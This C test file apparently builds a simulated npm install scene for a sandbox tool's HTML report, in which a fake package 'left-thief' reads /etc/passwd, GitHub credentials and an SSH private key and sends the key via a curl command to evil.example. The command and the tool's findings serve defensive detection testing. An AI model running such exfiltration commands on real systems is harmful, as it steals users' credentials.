#include "run_scene.h"

#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#define START (1000 * MS)
#define AT(ms) (START + (ms)*MS)
#define THIEF "pkg:npm/left-thief@1.3.1"
#define ESBUILD "pkg:npm/esbuild@0.19.2"
#define W "\x1f"

static const struct sp_run_process fixed[] = {
    { 1, 0, 2, NULL, "manager", SP_PHASE_FETCH, "/usr/bin/node", "npm" W "ci" W, "/home/u/app", AT(8),
      AT(4190), 0, 121 << 20 },
    { 2, 1, 20, ESBUILD, "package", SP_PHASE_INSTALL, "/bin/sh", "sh" W "-c" W "node install.js" W,
      "/home/u/app/node_modules/esbuild", AT(1800), AT(2700), 0, 2 << 20 },
    { 3, 2, 21, ESBUILD, "package", SP_PHASE_INSTALL, "/usr/bin/node", "node" W "install.js" W,
      "/home/u/app/node_modules/esbuild", AT(1830), AT(2690), 0, 48 << 20 },
    { 4, 3, 22, ESBUILD, "package", SP_PHASE_INSTALL, "/home/u/app/node_modules/esbuild/bin/esbuild",
      "esbuild" W "--version" W, "/home/u/app/node_modules/esbuild", AT(2500), AT(2560), 0, 11 << 20 },
    { 5, 1, 30, THIEF, "package", SP_PHASE_INSTALL, "/bin/sh", "sh" W "-c" W "node ./lib/setup.js" W,
      "/home/u/app/node_modules/left-thief", AT(2100), AT(3600), 9, 2 << 20 },
    { 6, 5, 31, THIEF, "package", SP_PHASE_INSTALL, "/usr/bin/node", "node" W "./lib/setup.js" W,
      "/home/u/app/node_modules/left-thief", AT(2130), AT(3600), 9, 52 << 20 },
    { 7, 6, 32, THIEF, "package", SP_PHASE_INSTALL, "/bin/sh",
      "/bin/sh" W "-c" W "curl -s -d @/home/u/.ssh/id_ed25519 https://evil.example/k" W,
      "/home/u/app/node_modules/left-thief", AT(3200), AT(3600), 9, 2 << 20 },
    { 8, 7, 33, THIEF, "package", SP_PHASE_INSTALL, "/usr/bin/curl",
      "curl" W "-s" W "-d" W "@/home/u/.ssh/id_ed25519" W "https://evil.example/k" W,
      "/home/u/app/node_modules/left-thief", AT(3215), AT(3600), 9, 9 << 20 },
    { 9, 1, 40, NULL, "project", SP_PHASE_INSTALL, "/bin/sh", "sh" W "-c" W "husky install" W, "/home/u/app",
      AT(3620), AT(4000), 256, 2 << 20 },
};
#define GYP 40
static struct sp_run_process processes[SP_COUNT(fixed) + GYP];
static char gyp_words[GYP][64];

static const struct sp_event events[] = {
    { .kind = SP_EVENT_PHASE, .phase = SP_PHASE_FETCH, .time = AT(8), .subject = "the command starts" },
    { .kind = SP_EVENT_NAME,
      .phase = SP_PHASE_FETCH,
      .time = AT(120),
      .subject = "registry.npmjs.org",
      .detail = "A" },
    { .kind = SP_EVENT_OPEN,
      .phase = SP_PHASE_FETCH,
      .time = AT(200),
      .process = 1,
      .subject = "/home/u/.npmrc",
      .detail = NULL,
      .value = O_RDONLY },
    { .kind = SP_EVENT_PHASE, .phase = SP_PHASE_INSTALL, .time = AT(1500), .subject = "node_modules" },
    { .kind = SP_EVENT_EXEC,
      .phase = SP_PHASE_INSTALL,
      .time = AT(1801),
      .process = 2,
      .parent = 1,
      .package = ESBUILD,
      .subject = "/bin/sh",
      .detail = "sh" W "-c" W "node install.js" W,
      .directory = "/home/u/app/node_modules/esbuild" },
    { .kind = SP_EVENT_CONNECTION,
      .phase = SP_PHASE_INSTALL,
      .time = AT(1990),
      .process = 3,
      .package = ESBUILD,
      .subject = "104.16.3.35",
      .port = 443,
      .bytes = 517,
      .detail = "TLS to registry.npmjs.org" },
    { .kind = SP_EVENT_EXEC,
      .phase = SP_PHASE_INSTALL,
      .time = AT(2131),
      .process = 6,
      .parent = 5,
      .package = THIEF,
      .subject = "/usr/bin/node",
      .detail = "node" W "./lib/setup.js" W },
    { .kind = SP_EVENT_OPEN,
      .phase = SP_PHASE_INSTALL,
      .time = AT(2900),
      .process = 6,
      .package = THIEF,
      .subject = "/etc/passwd",
      .value = O_RDONLY },
    { .kind = SP_EVENT_OPEN,
      .phase = SP_PHASE_INSTALL,
      .time = AT(2950),
      .process = 6,
      .package = THIEF,
      .subject = "/home/u/.config/gh/hosts.yml",
      .value = O_RDONLY },
    { .kind = SP_EVENT_OPEN,
      .phase = SP_PHASE_INSTALL,
      .time = AT(3000),
      .process = 6,
      .package = THIEF,
      .subject = "/tmp/.k",
      .value = O_WRONLY | O_CREAT },
    { .kind = SP_EVENT_OPEN,
      .phase = SP_PHASE_INSTALL,
      .time = AT(3050),
      .process = 6,
      .package = THIEF,
      .subject = "/home/u/app/node_modules/left-thief/build/x.node",
      .value = O_WRONLY | O_CREAT },
    { .kind = SP_EVENT_BYTES,
      .phase = SP_PHASE_INSTALL,
      .time = AT(3060),
      .process = 6,
      .package = THIEF,
      .subject = "/tmp/.k",
      .bytes = 411 },
    { .kind = SP_EVENT_NAME,
      .phase = SP_PHASE_INSTALL,
      .time = AT(3190),
      .process = 6,
      .package = THIEF,
      .subject = "evil.example",
      .detail = "A" },
    { .kind = SP_EVENT_EXEC,
      .phase = SP_PHASE_INSTALL,
      .time = AT(3216),
      .process = 8,
      .parent = 7,
      .package = THIEF,
      .subject = "/usr/bin/curl",
      .detail = "curl" W "-s" W,
      .pid = 33 },
    { .kind = SP_EVENT_DECOY,
      .phase = SP_PHASE_INSTALL,
      .time = AT(3300),
      .process = 8,
      .package = THIEF,
      .subject = "/home/u/.ssh/id_ed25519",
      .detail = "ssh-key" },
    { .kind = SP_EVENT_CONNECTION,
      .phase = SP_PHASE_INSTALL,
      .time = AT(3420),
      .process = 8,
      .from_port = 40112,
      .package = THIEF,
      .subject = "203.0.113.9",
      .port = 443,
      .bytes = 517,
      .detail = "TLS to evil.example" },
    { .kind = SP_EVENT_SOCKET,
      .phase = SP_PHASE_INSTALL,
      .time = AT(3430),
      .process = 8,
      .package = THIEF,
      .subject = "203.0.113.9",
      .port = 443,
      .value = SP_SOCKET_CONNECT,
      .detail = "tcp",
      .bytes = 1 },
    { .kind = SP_EVENT_PHASE, .phase = SP_PHASE_LOAD, .time = AT(4200), .subject = "node" },
};

static const struct sp_finding findings[] = {
    { .rule = "run/connection",
      .severity = SP_SEVERITY_REVIEW,
      .ecosystem = "npm",
      .name = "esbuild",
      .version = "0.19.2",
      .risk = -1,
      .message = "calls 104.16.3.35:443 (TLS to registry.npmjs.org) during install",
      .advice = "--allow-host registry.npmjs.org for an honest download",
      .phase = "install",
      .subject = "104.16.3.35",
      .process = "node install.js (process 3)",
      .process_number = 3,
      .time = AT(1990) },
    { .rule = "run/decoy-read",
      .severity = SP_SEVERITY_BLOCK,
      .ecosystem = "npm",
      .name = "left-thief",
      .version = "1.3.1",
      .risk = -1,
      .message = "reads an SSH private key (~/.ssh/id_ed25519) during install",
      .advice = "do not install it: no honest install reads this; where it ran without a sandbox, replace "
                "the real secret",
      .phase = "install",
      .subject = "/home/u/.ssh/id_ed25519",
      .process = "curl -s -d @/home/u/.ssh/id_ed25519 https://evil.example/k (process 8)",
      .process_number = 8,
      .time = AT(3300) },
    { .rule = "run/canary-sent",
      .severity = SP_SEVERITY_BLOCK,
      .ecosystem = "npm",
      .name = "left-thief",
      .version = "1.3.1",
      .risk = -1,
      .message = "sends an SSH private key to 203.0.113.9:443 during install",
      .advice = "do not install it; where it ran without a sandbox, replace the real secret now",
      .phase = "install",
      .subject = "203.0.113.9",
      .process = "curl -s -d @/home/u/.ssh/id_ed25519 https://evil.example/k (process 8)",
      .process_number = 8,
      .time = AT(3420) },
    { .rule = "run/write-outside",
      .severity = SP_SEVERITY_REVIEW,
      .ecosystem = "npm",
      .name = "left-thief",
      .version = "1.3.1",
      .risk = -1,
      .message = "makes /tmp/.k, which is no output of npm",
      .advice = "--allow-write PATH if it belongs to the install",
      .phase = "install",
      .subject = "/tmp/.k",
      .process = "node ./lib/setup.js (process 6)",
      .process_number = 6,
      .time = AT(3000) },
};

void
given_scene(struct run *run)
{
    memcpy(processes, fixed, sizeof(fixed));
    for (size_t i = 0; i < GYP; i++) {
        snprintf(gyp_words[i], sizeof(gyp_words[i]), "cc" W "-c" W "src/file%zu.cc" W, i);
        processes[SP_COUNT(fixed) + i] =
            (struct sp_run_process){ .number = 10 + (uint32_t)i,
                                     .parent = i ? 10 : 1,
                                     .pid = 50 + (uint32_t)i,
                                     .package = "pkg:npm/%40corp/native@2.0.0",
                                     .who = "package",
                                     .phase = SP_PHASE_INSTALL,
                                     .program = i ? "/usr/bin/cc" : "/usr/bin/make",
                                     .words = i ? gyp_words[i] : "make" W "-j2" W,
                                     .began = AT(1700 + i * 60),
                                     .ended = i ? AT(1790 + i * 60) : AT(4150),
                                     .peak_memory = 30 << 20 };
    }
    given_refusal(run);
    for (size_t i = 0; i < SP_COUNT(findings); i++)
        given_finding(run, &findings[i]);
    run->report.started = START;
    run->report.processes = processes;
    run->report.process_count = SP_COUNT(processes);
    run->report.events = events;
    run->report.event_count = SP_COUNT(events);
    run->report.changes = given_changes;
    run->report.change_count = 6;
    run->report.loads = &given_unloaded;
    run->report.load_count = 1;
    run->report.stopped = "at the first proof";
    run->report.verdict_time = 3 * MS;
}

const char *
html_of(struct run *run)
{
    struct sp_error err = { 0 };
    sp_buffer_clear(&run->out);
    int status = sp_run_report_html(&run->report, &run->options, &run->out, &err);
    assert_string_equal(err.text, "");
    assert_int_equal(status, 0);
    return sp_buffer_string(&run->out);
}
